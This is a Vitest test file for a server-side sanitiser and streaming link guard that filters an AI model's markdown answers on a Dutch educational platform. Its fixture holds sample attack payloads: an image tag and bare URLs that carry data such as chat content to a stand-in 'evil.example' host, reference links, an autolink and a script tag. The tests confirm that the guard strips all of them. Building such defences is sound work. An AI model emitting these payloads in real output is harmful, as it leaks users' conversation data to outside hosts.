import { describe, expect, it } from 'vitest';
import { StreamingLinkGuard } from '../src/answer/linkGuard.js';
import { sanitizeModelMarkdown } from '../src/answer/sanitizeMarkdown.js';
import { fixtureIndex } from './support/fixtureIndex.js';

const index = fixtureIndex();
const TEXT =
  'Lees [Breuken vergelijken](/doorloopjes/breuken-vergelijken) en niet [dit](https://example.com/x "titel"), ' +
  'ook geen ![plaatje](https://example.com/p.png) of [Verzonnen](/doorloopjes/bestaat-niet). Zie [alle doorloopjes](/doorloopjes).\n' +
  '- een **lijst** met *nadruk*\n' +
  '2. genummerd\n' +
  'Een <img src="https://evil.example/?q=geheim"> en <a href="https://evil.example">klik</a>.\n' +
  'Bare https://evil.example/lek?chat=1 en www.evil.example en <https://evil.example/auto> en jan@evil.example.\n' +
  '[referentie][r] en [kort]\n' +
  '[r]: https://evil.example/ref\n' +
  '[kort]: https://evil.example/kort\n' +
  '![alt][r]\n' +
  '<script>alert(1)</script>\n' +
  'Einde van het antwoord';

function through(pieces: string[]): string {
  const guard = new StreamingLinkGuard(index);
  return pieces.map((piece) => guard.push(piece)).join('') + guard.flush();
}

describe('model output is sanitised on the server', () => {
  const whole = sanitizeModelMarkdown(TEXT, index);

  it('keeps text, emphasis, lists and links to existing platform pages', () => {
    expect(whole).toContain('[Breuken vergelijken](/doorloopjes/breuken-vergelijken)');
    expect(whole).toContain('[alle doorloopjes](/doorloopjes)');
    expect(whole).toContain('- een **lijst** met *nadruk*');
    expect(whole).toContain('2. genummerd');
    expect(whole).toContain('Einde van het antwoord');
    // Links elsewhere, invented ones and reference links keep their text only.
    expect(whole).toContain('en niet dit,');
    expect(whole).toContain('of Verzonnen.');
    // Reference links never resolve: their brackets are escaped text.
    expect(whole).toContain('\\[referentie\\]\\[r\\] en \\[kort\\]');
  });

  it.each([
    ['raw <img>', /<img|evil\.example\/\?q=geheim/],
    ['raw <a href>', /<a |href=/],
    ['an image', /p\.png|!\[/],
    ['a bare URL', /evil\.example\/lek/],
    ['a www. address', /www\./],
    ['an autolink', /evil\.example\/auto/],
    ['a reference definition', /evil\.example\/(?:ref|kort)/],
    ['a script tag', /<script/],
  ])('attack: drops %s', (_form, pattern) => {
    expect(whole).not.toMatch(pattern);
  });

  it('leaves no address outside the platform at all, and no unescaped markup to form one', () => {
    expect(whole).not.toMatch(/https?:|evil\.example\/|mailto/);
    // An e-mail address is text, never a link: its @ is escaped.
    expect(whole).toContain('jan\\@evil.example.');
    expect(whole).not.toMatch(/(?<!\\)</);
  });

  it('streams to exactly the sanitised whole, wherever the pieces are cut', () => {
    for (let cut = 0; cut <= TEXT.length; cut += 1) {
      expect(through([TEXT.slice(0, cut), TEXT.slice(cut)])).toBe(whole);
    }
    expect(through([...TEXT])).toBe(whole);
  });

  it('never lets text after an abandoned bracket turn it into a link', () => {
    const guard = new StreamingLinkGuard(index);
    const shown = guard.push(`Begin [${'x'.repeat(700)}`) + guard.push('](https://example.com)') + guard.flush();
    expect(shown).toBe(`Begin ${'x'.repeat(700)}`);
  });

  it('shows plain words at once, before the line ends', () => {
    const guard = new StreamingLinkGuard(index);
    expect(guard.push('Een begin van een ')).toBe('Een begin van een ');
    expect(guard.push('antwoord')).toBe('antwoord');
    // A word that may still become an address waits for what follows.
    expect(guard.push(' zie http')).toBe(' zie ');
    expect(guard.push('s://evil.example/x en verder') + guard.flush()).toBe(' en verder');
  });
});
